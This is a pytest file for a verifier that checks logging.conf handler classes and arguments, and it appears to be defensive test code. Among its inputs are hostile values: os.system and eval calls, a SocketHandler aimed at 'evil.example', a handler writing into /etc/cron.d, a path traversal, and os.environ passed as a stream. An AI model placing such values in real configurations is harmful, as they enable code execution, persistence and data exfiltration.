from __future__ import annotations

from pathlib import Path

import pytest

from mim_tools.verify import judge_bundle
from tests.logging_file import LOGGING
from tests.tools.verify.good import only, write


@pytest.mark.parametrize(
    ("cls", "args", "clean"),
    [
        ("StreamHandler", "(sys.stderr,)", True),
        ("logging.FileHandler", "('run.log', 'a')", True),
        ("handlers.RotatingFileHandler", "('run.log',)", True),
        ("__import__('os').system", "('id',)", False),  # F5
        ("eval", "('1',)", False),
        ("handlers.SocketHandler", "('evil.example', 80)", False),
        ("%(x)s", "()", False),
        ("StreamHandler", "(__import__('os').system('id'),)", False),
        ("StreamHandler", "(os.environ,)", False),
        ("FileHandler", "('/etc/cron.d/x',)", False),
        ("FileHandler", "('../x',)", False),
        ("StreamHandler", "(", False),
    ],
)
def test_logging(bundle: Path, cls: str, args: str, clean: bool) -> None:
    write(bundle, "configs/logging.conf", LOGGING.format(cls=cls, args=args))
    assert (judge_bundle(bundle) == []) == clean


def test_defaults_of_logging_are_judged(bundle: Path) -> None:
    write(bundle, "configs/logging.conf", "[DEFAULT]\nclass=eval\n[handler_a]\nlevel=INFO\n")
    assert only(judge_bundle(bundle)).key == "handler_a::class"
    write(bundle, "configs/logging.conf", "no section")
    assert "cannot be read" in only(judge_bundle(bundle)).why
